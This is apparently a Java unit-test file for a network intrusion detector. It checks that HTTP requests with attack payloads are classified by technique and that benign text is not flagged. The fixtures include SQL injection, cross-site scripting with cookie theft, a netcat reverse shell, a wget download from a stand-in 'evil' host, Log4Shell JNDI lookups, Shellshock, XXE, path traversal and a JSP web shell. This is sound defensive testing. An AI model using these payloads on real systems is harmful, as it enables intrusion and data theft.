package vedette.detect.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.foreign.MemorySegment;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import vedette.decode.IpProtocol;
import vedette.decode.text.PayloadText;
import vedette.detect.Traffic;
import vedette.flow.fact.Ends;
import vedette.flow.fact.HttpRequestFact;

class InspectionTest {

    private static final Ends ENDS =
            new Ends(Traffic.address("198.51.100.9"), 40_000, Traffic.address("10.0.0.5"), 80, IpProtocol.TCP);

    private static double score(HttpRequestFact request) {
        Finding finding = Inspection.of(request);
        return finding == null ? 0 : finding.score();
    }

    private static HttpRequestFact get(String target, String header) {
        String head = "GET " + target + " HTTP/1.1\r\nHost: shop\r\n" + header + "\r\n";
        return new HttpRequestFact(ENDS, 1, "GET", target, "shop", "x", false, head, "", head.length());
    }

    private static HttpRequestFact asked(String value) {
        return get("/find?q=" + URLEncoder.encode(value, StandardCharsets.UTF_8), "");
    }

    private static HttpRequestFact posted(String type, String body) {
        String head = "POST /do HTTP/1.1\r\nHost: shop\r\nContent-Type: " + type + "\r\n\r\n";
        return new HttpRequestFact(ENDS, 1, "POST", "/do", "shop", "x", false, head, body, head.length());
    }

    @Test
    void givenBinaryDataThatItsProgramCallsAForm_thenSignsInItAreByChance() {
        SplittableRandom random = new SplittableRandom(5);
        for (int upload = 0; upload < 40; upload++) {
            byte[] data = new byte[500];
            random.nextBytes(data);
            String text = PayloadText.lines(MemorySegment.ofArray(data), 0, data.length, data.length)
                    + "\n&x=1|w /&y=;id\n&z=`ls -l`";
            String file = "--x\r\nContent-Disposition: form-data; name=\"photo\"\r\n\r\n" + text + "\r\n--x--";

            assertThat(Inspection.of(posted("application/x-www-form-urlencoded", text)))
                    .isNull();
            assertThat(Inspection.of(posted("multipart/form-data; boundary=x", file)))
                    .isNull();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "y=1\\x00;id\n&z=`ls -l`",
                "y=J\\xc3\\xbcrgen&z=`ls -l`",
                "y=;echo -ne '\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00\\x00\\x00\\x00'"
            })
    void givenAFormWithALittleThatIsNotPrintable_thenItIsReadAllTheSame(String form) {
        assertThat(score(posted("application/x-www-form-urlencoded", form))).isGreaterThan(0.6);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1' or '1'='1",
                "1 or 1=1--",
                "' or 1=1#",
                "') or ('a'='a",
                "1 AND 8213=8213",
                "1) AND 5023=8234 AND (1=1",
                "1' UNION SELECT user,password FROM users#",
                "-1 UNION/**/ALL/**/SELECT 1,2,concat(0x7e,version())--",
                "1/*!50000UnIoN*/ SeLeCt 1,2,3",
                "1; DROP TABLE users--",
                "1'; exec xp_cmdshell('dir')--",
                "1' AND SLEEP(5) AND 'a'='a",
                "1 and (select count(*) from information_schema.tables)>0",
                "(select(0)from(select(sleep(15)))v)",
                "1' ORDER BY 3-- -",
                "1 waitfor delay '0:0:5'--",
                "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))",
                "'||(select 1 from dual)||'",
                "\" or \"\"=\""
            })
    void givenSqlThatChangesTheQuestion_thenItIsSure(String value) {
        assertThat(Inspection.of(asked(value))).isNotNull().satisfies(finding -> {
            assertThat(finding.technique()).isEqualTo(Technique.SQL_INJECTION);
            assertThat(finding.score()).isGreaterThanOrEqualTo(0.8);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "O'Brien",
                "O'Brien and sons",
                "rock 'n' roll",
                "it's 5 or more, isn't it?",
                "select a union rep",
                "credit union select account",
                "don't drop the table; insert coins",
                "the order by post, group by group",
                "cats and dogs = friends",
                "5 or more = better",
                "where to buy from 1 to 10",
                "a -- b",
                "C# or Java",
                "50% off & free",
                "1+1=2",
                "x > 3 and y < 4",
                "(555) 123-4567",
                "price between 5 and 10",
                "\"quoted phrase\" or \"another\"",
                "He said \"no\" and left",
                "2024-01-01T00:00:00+01:00"
            })
    void givenOrdinaryText_thenItIsNotSuspect(String value) {
        assertThat(score(asked(value))).isLessThan(0.4);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "\"><script>document.location='http://x/'+document.cookie</script>",
                "\" onmouseover=\"alert(1)",
                "javascript:alert(document.cookie)",
                "<body onload=alert('x')>",
                "<iframe src=\"javascript:alert(1)\">",
                "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;"
            })
    void givenMarkupWithAScript_thenItIsSure(String value) {
        assertThat(Inspection.of(asked(value))).isNotNull().satisfies(finding -> {
            assertThat(finding.technique()).isEqualTo(Technique.SCRIPT_INJECTION);
            assertThat(finding.score()).isGreaterThanOrEqualTo(0.8);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<b>bold</b> and <i>italic</i>",
                "<p class=\"x\">text</p><a href=\"https://example.com/\">link</a>",
                "# head\n* list **bold** [link](http://x.y/z)",
                "a < b and b > c",
                "body { color: #fff; font: 12px/1.5 sans-serif; }",
                "i <3 you",
                "onset = 5; online=true",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_DEF==",
                "{\"a\":[1,2,{\"b\":\"c d\"}],\"e\":null}"
            })
    void givenMarkupAndNotationsWithoutAScript_thenTheyAreNotSuspect(String value) {
        assertThat(score(asked(value))).isLessThan(0.4);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ";cat /etc/passwd",
                "127.0.0.1; id",
                "127.0.0.1 | whoami",
                "x && wget http://evil/x -O /tmp/x",
                "$(id)",
                "`uname -a`",
                "|nc -e /bin/sh 10.0.0.1 4444",
                "1;sleep${IFS}5",
                "& ping -c 3 127.0.0.1 &"
            })
    void givenCommandsForAShell_thenTheyAreSuspect(String value) {
        assertThat(score(asked(value))).isGreaterThanOrEqualTo(0.6);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rock & roll; cat and dog",
                "salt & pepper; find more at home",
                "price: $5 (or less)",
                "Tom & Jerry",
                "a; b; c",
                "ls",
                "type a name here"
            })
    void givenSentencesWithTheNamesOfPrograms_thenTheyAreNotSuspect(String value) {
        assertThat(score(asked(value))).isLessThan(0.4);
    }

    @ParameterizedTest
    @CsvSource({
        "/view?page=../../../../etc/passwd, TRAVERSAL",
        "/view?page=..%252f..%252f..%252fetc%252fpasswd, TRAVERSAL",
        "/cgi-bin/.%2e/.%2e/.%2e/etc/hosts, TRAVERSAL",
        "/view?page=/etc/passwd, TRAVERSAL",
        "/view?page=....//....//....//windows/win.ini, TRAVERSAL",
        "/view?page=php://filter/convert.base64-encode/resource=index, TRAVERSAL",
        "/.env, SECRET_FILE",
        "/.git/config, SECRET_FILE",
        "/up/x.php?cmd=whoami, WEB_SHELL",
        "/index.php?s=index/think%5Capp/invokefunction&function=call_user_func_array, CODE_INJECTION",
        "/a?x=%7B%7B7*7%7D%7D, CODE_INJECTION",
        "/a?x=%24%7Bjndi:ldap://evil/a%7D, LOOKUP_INJECTION",
        "/a?x=%24%7B%24%7B::-j%7D%24%7Blower:n%7Ddi:ldap://evil/a%7D, LOOKUP_INJECTION"
    })
    void givenATargetThatBreaksIn_thenItsTechniqueIsNamed(String target, Technique technique) {
        assertThat(Inspection.of(get(target, ""))).isNotNull().satisfies(finding -> {
            assertThat(finding.technique()).isEqualTo(technique);
            assertThat(finding.score()).isGreaterThanOrEqualTo(0.5);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/img/../css/a.css",
                "/api/v1/users/12/items?limit=10&sort=-created&fields=id,name",
                "/search?q=environment+variables&page=2",
                "/a?url=https%3A%2F%2Fexample.com%2Fx%3Fa%3D1%26b%3D2",
                "/a?ts=1700000000&sig=dGhpcyBpcyBhIHRlc3Q%3D&x=%7B%22a%22%3A1%7D",
                "/docs/etc/config.html",
                "/calc?expr=2*(3%2B4)",
                "/a?filter=name%20eq%20%27Smith%27%20and%20age%20gt%2030"
            })
    void givenAnOrdinaryTarget_thenItIsNotSuspect(String target) {
        assertThat(score(get(target, ""))).isLessThan(0.4);
    }

    @ParameterizedTest
    @CsvSource({
        "User-Agent: () { :;}; /bin/bash -c 'id', SHELLSHOCK",
        "X-Api-Version: ${jndi:ldap://198.51.100.9:1389/a}, LOOKUP_INJECTION",
        "Accept-Language: ${jndi:dns://x}, LOOKUP_INJECTION"
    })
    void givenAHeaderThatBreaksIn_thenItsTechniqueIsNamed(String header, Technique technique) {
        assertThat(Inspection.of(get("/", header + "\r\n")))
                .isNotNull()
                .satisfies(finding -> assertThat(finding.technique()).isEqualTo(technique));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
                "User-Agent: curl/8.5.0",
                "Cookie: a=b; session=eyJhbGciOi.J9--abc; theme=dark; _ga=GA1.2.123.456; json=%7B%22a%22%3A%22it%27s%22%7D",
                "Referer: https://example.com/find?q=O%27Brien+and+sons",
                "X-Forwarded-For: 10.0.0.1, 192.0.2.4"
            })
    void givenOrdinaryHeaders_thenTheyAreNotSuspect(String header) {
        assertThat(score(get("/", header + "\r\n"))).isLessThan(0.4);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "application/x-www-form-urlencoded | id=1%27+or+%271%27%3D%271&Submit=Submit | SQL_INJECTION",
                "application/x-www-form-urlencoded | ip=127.0.0.1%3Bid%3Bwhoami&Submit=x | COMMAND_INJECTION",
                "application/json | {\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://e/x\"}"
                        + " | DESERIALISATION",
                "application/json | {\"name\":\"x' or 1=1--\"} | SQL_INJECTION",
                "application/xml | <!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]> | CODE_INJECTION",
                "text/plain | <% Runtime.getRuntime().exec(request.getParameter(\"c\")); %> | CODE_INJECTION"
            })
    void givenABodyThatBreaksIn_thenItsTechniqueIsNamed(String type, String body, Technique technique) {
        assertThat(Inspection.of(posted(type, body)))
                .isNotNull()
                .satisfies(finding -> assertThat(finding.technique()).isEqualTo(technique));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "application/x-www-form-urlencoded | name=O%27Brien&text=It%27s+fine%2C+isn%27t+it%3F&ok=1",
                "application/json | {\"text\":\"it's 5 or 6; cat's cradle\",\"html\":\"<b>x</b>\",\"n\":[1,2]}",
                "application/x-www-form-urlencoded | css=a%7Bcolor%3Ared%3B%7D&md=%2A%2Abold%2A%2A",
                "application/xml | <?xml version=\"1.0\"?><a b=\"c\"><d>e</d></a>"
            })
    void givenAnOrdinaryBody_thenItIsNotSuspect(String type, String body) {
        assertThat(score(posted(type, body))).isLessThan(0.4);
    }
}
